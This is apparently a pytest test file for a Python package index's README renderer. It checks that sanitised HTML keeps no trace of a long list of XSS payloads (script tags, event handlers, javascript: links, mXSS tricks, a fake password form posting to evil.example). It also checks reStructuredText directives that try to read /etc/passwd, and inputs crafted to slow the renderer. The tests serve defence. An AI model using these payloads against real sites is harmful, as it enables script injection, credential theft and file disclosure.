"""A stranger's description is shown and does nothing: a corpus of what others have tried, and honest readmes beside it."""

from __future__ import annotations

import threading
import time
from dataclasses import replace
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest

from accord.server.limits import DEFAULT
from accord.server.turns import Turns
from accord.server.web import contents, readme
from accord.server.web.apart import Renderer
from accord.server.web.readme import render_description
from accord.testing.archives import wheel_parts, zip_bytes
from accord.testing.serving import InProcess

MOST = 512 << 10

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<img src="javascript:alert(1)">',
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="&#106;&#97;vascript:alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert`1`)",
    "![x](javascript:alert(1))",
    "[x]: javascript:alert(1)\n\n[x]",
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="https://evil.example"></object><embed src=x>',
    '<form action="https://evil.example"><input name=password type=password><button>Sign in</button></form>',
    "<input type=image src=x onerror=alert(1)>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<style>body{display:none}</style>",
    '<div style="position:fixed;inset:0">x</div>',
    "<link rel=stylesheet href=//evil.example/x.css>",
    '<base href="https://evil.example/">',
    '<meta http-equiv=refresh content="0;url=https://evil.example">',
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    '<div class="band"><a class="skip button">x</a></div>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<p id=content>x</p><p id=csrf>x</p>",
    "<<script>script>alert(1)<</script>/script>",
    '```"><script>alert(1)</script>\nx\n```',
    '```python"onmouseover=alert(1)\nx\n```',
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    '<a href="https://a.example" target=_blank onclick=alert(1)>x</a>',
]
RST_ATTACKS = [
    ".. raw:: html\n\n   <script>alert(1)</script>\n",
    ".. include:: /etc/passwd\n",
    ".. csv-table::\n   :file: /etc/passwd\n",
    ".. image:: javascript:alert(1)\n   :target: javascript:alert(1)\n",
    "`x <javascript:alert(1)>`_\n",
    ".. _x: javascript:alert(1)\n\nx_\n",
    ".. raw:: html\n   :url: https://evil.example/\n",
    ".. role:: raw-html(raw)\n   :format: html\n\n:raw-html:`<script>alert(1)</script>`\n",
    ".. container:: band\n\n   x\n",
]
ALLOWED_ATTRIBUTES = frozenset(
    [
        "alt",
        "align",
        "aria-label",
        "checked",
        "class",
        "colspan",
        "disabled",
        "height",
        "href",
        "id",
        "loading",
        "open",
        "rel",
        "rowspan",
        "src",
        "start",
        "title",
        "type",
        "width",
    ]
)
FORBIDDEN = frozenset(
    ["script", "style", "iframe", "object", "embed", "form", "button", "textarea", "select", "svg", "math", "link", "meta", "base", "template", "noscript", "video", "audio"]
)  # fmt: skip


class Judge(HTMLParser):
    """Another reader of HTML than the one that cleaned it."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.faults: list[str] = []
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        if tag in FORBIDDEN:
            self.faults.append(tag)
        for name, value in attributes:
            plain = "".join((value or "").split()).lower()
            if name not in ALLOWED_ATTRIBUTES or name.startswith("on"):
                self.faults.append(f"{tag} {name}")
            if name in ("href", "src") and not plain.startswith(
                ("http://", "https://", "mailto:", "#readme-", "data:image/")
            ):
                self.faults.append(f"{tag} {name}={plain}") if ":" in plain else None
            if name == "id" and not plain.startswith("readme-"):
                self.faults.append(f"id {plain}")
            if name == "class" and not all(one.startswith("hl-") for one in (value or "").split()):
                self.faults.append(f"class {value}")
            if name == "type" and plain != "checkbox":
                self.faults.append(f"type {plain}")


@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize(
    "kind",
    ["text/markdown", "text/markdown; variant=CommonMark", "text/x-rst", "text/plain", "text/html", ""],
)
def test_nothing_of_an_attack_is_left(attack: str, kind: str) -> None:
    assert Judge(render_description(attack, kind, MOST)).faults == []


@pytest.mark.parametrize("attack", RST_ATTACKS)
def test_restructuredtext_reads_no_file_and_makes_no_raw_html(attack: str) -> None:
    made = render_description(attack, "text/x-rst", MOST)
    assert Judge(made).faults == []
    assert "root:" not in made


def test_the_judge_sees_what_it_is_there_for() -> None:
    for attack in (
        "<img src=x onerror=a>",
        "<script>",
        "<a href='java script:x'>",
        "<p class=band>",
        "<p id=content>",
    ):
        assert Judge(attack).faults, attack


def test_an_honest_readme_keeps_what_it_is_made_of() -> None:
    made = render_description(
        "# Spam\n\nSome *words*, `code`, a [link](https://a.example/).\n\n"
        "![picture](https://a.example/p.png)\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n- [x] done\n\n"
        "```python\nimport spam\n```\n\n[down](#usage)\n\n## Usage\n",
        "text/markdown",
        MOST,
    )
    for part in (
        "<em>words</em>",
        "<code>code</code>",
        'href="https://a.example/"',
        'rel="nofollow noopener noreferrer"',
        'src="https://a.example/p.png"',
        'loading="lazy"',
        "<td>1</td>",
        "checkbox",
        '<span class="hl-kn">import</span>',
    ):
        assert part in made, part
    assert "<h2" in made and "<h1" not in made  # the page has its own first heading
    target = made.partition('href="#')[2].partition('"')[0]
    assert f'id="{target}"' in made


def test_restructuredtext_keeps_what_it_is_made_of() -> None:
    made = render_description(
        "Spam\n====\n\n*words* and ``code``\n\n.. code:: python\n\n   import spam\n", "text/x-rst", MOST
    )
    for part in ("<em>words</em>", ">code<", "hl-kn"):
        assert part in made, part


def test_a_description_that_cannot_be_rendered_is_shown_as_it_is() -> None:
    made = render_description(":unknown-role:`x` <b>&\n\n.. nope::\n", "text/x-rst", MOST)
    assert "<b>" not in made
    assert "&lt;b&gt;" in made


def test_a_description_is_rendered_up_to_its_limit_and_shown_plain_beyond() -> None:
    assert "<strong>" in render_description("**a**" + "b" * 95, "text/markdown", 100)
    made = render_description("**a**" + "b" * 96, "text/markdown", 100)
    assert "<strong>" not in made
    assert made.startswith("<pre>**a**bbb")
    assert "longer than is shown" in made
    assert render_description("", "text/markdown", 100) == ""
    assert render_description("UNKNOWN", "", 100) == ""


@pytest.mark.parametrize(
    "text", ["[" * 5000, "> " * 3000, "*" * 9000, "<div>" * 3000, "`" * 9000, "- " * 2000 + "x", "|" * 9000]
)
def test_text_made_to_be_slow_is_not(text: str) -> None:
    import time

    start = time.monotonic()
    render_description(text, "text/markdown", MOST)
    assert time.monotonic() - start < 10


LONG = [
    (">" * 400_000, "text/markdown"),
    ("<div>" * 100_000, "text/markdown"),
    ("+" + "-+" * 1000 + "\n" + ("|" + " |" * 1000 + "\n+" + "-+" * 1000 + "\n") * 100, "text/x-rst"),
]


@pytest.mark.parametrize(("text", "kind"), LONG, ids=("quotes", "boxes", "grid"))
def test_what_takes_a_renderer_minutes_ends_in_time_and_the_next_is_rendered(text: str, kind: str) -> None:
    renderer = Renderer()
    try:
        assert renderer.render("*honest*", "text/markdown", MOST, 20) == "<p><em>honest</em></p>\n"
        start = time.monotonic()
        assert renderer.render(text, kind, MOST, 0.3) is None
        assert time.monotonic() - start < 20
        assert renderer.render("*honest*", "text/markdown", MOST, 20) == "<p><em>honest</em></p>\n"
    finally:
        renderer.close()


def test_a_renderer_that_ended_for_want_of_work_is_started_again() -> None:
    renderer = Renderer()
    try:
        assert renderer.render("*a*", "text/markdown", MOST, 20)
        assert renderer._child is not None
        renderer._child.kill()
        renderer._child.wait()
        assert renderer.render("*b*", "text/markdown", MOST, 20) == "<p><em>b</em></p>\n"
    finally:
        renderer.close()


def test_a_description_nobody_can_render_is_shown_as_it_is_and_tried_once(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    tried: list[str] = []

    def render(text: str, *how: Any, whole: Any = readme._RENDERER.render) -> str | None:
        tried.append(text)
        made: str | None = whole(text, *how)
        return made

    monkeypatch.setattr(readme._RENDERER, "render", render)
    limits = replace(DEFAULT, readme_seconds=0.5)
    body = "honest words\n\n" + ">" * 400_000
    metadata = (
        f"Metadata-Version: 2.1\nName: spam\nVersion: 1.0\nDescription-Content-Type: text/markdown\n\n{body}"
    )
    with InProcess.open(str(tmp_path / "data"), limits=limits) as index:
        index.upload("spam-1.0-py3-none-any.whl", zip_bytes(wheel_parts(metadata=metadata)))
        assert "<pre>honest words" in index.get("/project/spam/").text
        assert "<pre>honest words" in index.get("/project/spam/").text
        assert len(tried) == 1


def test_few_work_few_wait_and_nobody_waits_for_long() -> None:
    turns = Turns(1, 1, 0.2)
    with turns.take() as first:
        assert first
        with turns.take() as second:  # waited, in vain
            assert not second
    turns = Turns(1, 1, 60)
    with turns.take() as first:
        assert first
        held = threading.Thread(target=lambda: turns.take().__enter__())
        held.start()
        while turns._here._value:
            time.sleep(0.001)
        start = time.monotonic()
        with turns.take() as third:  # one works, one waits
            assert not third
        assert time.monotonic() - start < 30
    held.join()


def test_who_finds_too_many_looking_into_files_is_told_to_come_again(
    index: InProcess, monkeypatch: pytest.MonkeyPatch
) -> None:
    index.upload("spam-1.0-py3-none-any.whl", zip_bytes(wheel_parts()))
    target = "/project/spam/1.0/files/spam-1.0-py3-none-any.whl"
    monkeypatch.setattr(contents, "_TURNS", Turns(0, 1, 0.01))
    refused = index.get(target, accept="application/json")
    assert (refused.status, refused.json()["code"]) == (503, "page-busy")
    assert refused.headers["retry-after"] == "10"
    monkeypatch.undo()
    assert index.get(target).status == 200
